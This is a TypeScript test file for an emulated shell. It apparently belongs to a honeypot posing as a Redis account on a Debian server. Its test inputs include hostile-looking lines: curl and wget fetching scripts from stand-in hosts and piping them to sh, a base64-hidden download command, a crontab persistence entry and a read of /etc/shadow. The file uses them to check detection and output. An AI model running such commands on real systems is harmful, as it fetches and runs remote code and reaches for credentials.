import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { seededRandom } from '../../platform/random.ts';
import type { Machine } from './machine.ts';
import { runShell } from './run-shell.ts';
import { createShellState } from './shell-state.ts';

function machine(): Machine {
  const random = seededRandom(7);
  return {
    state: { ...createShellState(random), hostname: 'db-02', uid: 109, gid: 115, cpus: 2 },
    disk: { files: new Map(), bytes: 0 },
    now: Date.UTC(2026, 10, 24, 12, 0, 0),
    booted: Date.UTC(2026, 10, 1),
    started: Date.UTC(2026, 10, 1),
    debian: 11,
    kernel: '5.10.0-30-amd64',
    architecture: 'x86_64',
    account: 'redis',
    pid: 512,
    port: 6379,
    folder: '/var/lib/redis',
    memory: 4_104_196_096,
    settings: new Map([['dir', '/var/lib/redis']]),
    visitors: [{ address: '198.51.100.7', port: 40_000 }],
    received: ['/tmp/exp.so'],
    random: (limit) => random.below(limit),
  };
}
const said = (line: string, on = machine()): string => runShell(line, on).output;

describe('the pretended shell answers', () => {
  test.for([
    ['id', 'uid=109(redis) gid=115(redis) groups=115(redis)\n'],
    ['id -u; id -un', '109\nredis\n'],
    ['whoami', 'redis\n'],
    ['/usr/bin/whoami', 'redis\n'],
    ['uname -sr', 'Linux 5.10.0-30-amd64\n'],
    ['hostname && pwd', 'db-02\n/var/lib/redis\n'],
    ['cd /tmp; pwd; ls', '/tmp\nexp.so\n'],
    ['cd /root || echo no', 'no\n'],
    ['echo a  b "c  d" \'e$f\'', 'a b c  d e$f\n'],
    ['echo -n x; printf "%s-%d\\n" a 3', 'xa-3\n'],
    ['A=1 B=$A; echo "$A${B}${C:-none}"', '11none\n'],
    ['echo $((2+3)) $(echo in $(echo deep)) `echo tick`', '5 in deep tick\n'],
    ['false && echo a || echo b', 'b\n'],
    ['! true; echo $?', '1\n'],
    ['if [ -f /etc/passwd ]; then echo yes; else echo no; fi', 'yes\n'],
    ['for i in 1 2 3; do echo -n $i; done', '123'],
    ['while false; do echo x; done; (echo in) ; { echo too; }', 'in\ntoo\n'],
    ['echo hello > /tmp/x; cat /tmp/x; cat < /tmp/x | wc -c', 'hello\n6\n'],
    ['echo one >> /tmp/l; echo two >> /tmp/l; tail -n 1 /tmp/l', 'two\n'],
    ['cat /etc/passwd | grep redis | cut -d: -f1', 'redis\n'],
    ['nosuch', ''],
    ['nosuch 2>&1', 'sh: 1: nosuch: not found\n'],
    ['cat /etc/shadow 2>&1', 'cat: /etc/shadow: Permission denied\n'],
    ['ls /nowhere 2>&1; echo $?', "ls: cannot access '/nowhere': No such file or directory\n2\n"],
    ['curl -s http://files.example.invalid/a.sh | sh; echo done', 'done\n'],
    ['curl http://files.example.invalid/a 2>&1', 'curl: (6) Could not resolve host: files.example.invalid\n'],
    ['wget -q -O /tmp/a http://198.51.100.9/a; echo $?', '4\n'],
    ['echo aWQK | base64 -d | sh', 'uid=109(redis) gid=115(redis) groups=115(redis)\n'],
    ['bash -c "whoami"', 'redis\n'],
    ['nohup setsid timeout 5 whoami', 'redis\n'],
    ['(crontab -l; echo "* * * * * x") | crontab -; crontab -l', '* * * * * x\n'],
    ['printf "#!/bin/sh\\nid -u" > /tmp/r; chmod +x /tmp/r; /tmp/r', '109\n'],
    ['which curl; nproc', '/usr/bin/curl\n2\n'],
    ['python3 -c "print(\'x1\')"', 'x1\n'],
    ['echo a # b', 'a\n'],
    ['echo "unterminated', ''],
  ] as const)('%s', ([line, expected]) => {
    expect(said(line)).toBe(expected);
  });

  test('and tells what was hidden in the line', () => {
    const { acts } = runShell("echo 'Y3VybCBodHRwOi8vMTk4LjUxLjEwMC45L2EK' | base64 -d | sh &", machine());

    expect(acts).toEqual([{ type: 'shell.command', via: 'line', line: 'curl http://198.51.100.9/a\n' }]);
  });

  test('and keeps what a line leaves for the next one', () => {
    const on = machine();

    said('echo kept > /tmp/f', on);

    expect(said('cat /tmp/f; rm /tmp/f; cat /tmp/f', on)).toBe('kept\n');
  });

  test('with the same facts in every place', () => {
    const text = said('uname -r; cat /proc/version; cat /etc/os-release; hostname -I; ss -tn');

    expect(text.match(/5\.10\.0-30-amd64/g)?.length).toBe(2);
    expect(text).toContain('bullseye');
    expect(text).toContain('198.51.100.7:40000');
  });
});

describe('the pretended shell stays bounded', () => {
  test.for([
    ['endless loops', 'while true; do while true; do echo x; done; done'],
    ['a line that calls itself', 'echo "sh /tmp/a" > /tmp/a; sh /tmp/a'],
    ['nested substitutions', `${'$('.repeat(5_000)}id${')'.repeat(5_000)}`],
    ['nested groups', `${'('.repeat(5_000)}id${')'.repeat(5_000)}`],
    ['output that doubles', `A=xxxxxxxx; ${'A=$A$A; '.repeat(40)} echo $A $A`],
    [
      'many files',
      'for i in 1 2 3 4 5 6 7 8 9; do for j in 1 2 3 4 5 6 7 8 9; do for k in 1 2 3 4 5; do echo $i > /tmp/$i$j$k; done; done; done',
    ],
    ['quotes', '"\''.repeat(30_000)],
    ['a long pipe', `echo a ${'| cat '.repeat(3_000)}`],
  ] as const)('against %s', ([, line]) => {
    const on = machine();

    const { output, acts } = runShell(line, on);

    expect(output.length).toBeLessThanOrEqual(65_536);
    expect(acts.length).toBeLessThanOrEqual(16);
    expect(on.disk.files.size).toBeLessThanOrEqual(256);
    expect(on.disk.bytes).toBeLessThanOrEqual(262_144);
  });

  test('on any bytes', () => {
    const pieces = fc.constantFrom(
      'echo ',
      '$(',
      ')',
      '`',
      '"',
      "'",
      '|',
      '&&',
      ';',
      '>',
      '2>&1',
      '/tmp/a',
      '${',
      '}',
      'if ',
      'then ',
      'fi',
      'for ',
      ' in ',
      'do ',
      'done',
      '\\',
      '\n',
      'sh ',
      '-c ',
      'x',
      '<<',
      '((',
      '[ ',
      ' ]',
    );
    fc.assert(
      fc.property(fc.array(fc.oneof(pieces, fc.string()), { maxLength: 40 }), (words) => {
        expect(typeof said(words.join(''))).toBe('string');
      }),
      { numRuns: 2_000 },
    );
  });
});
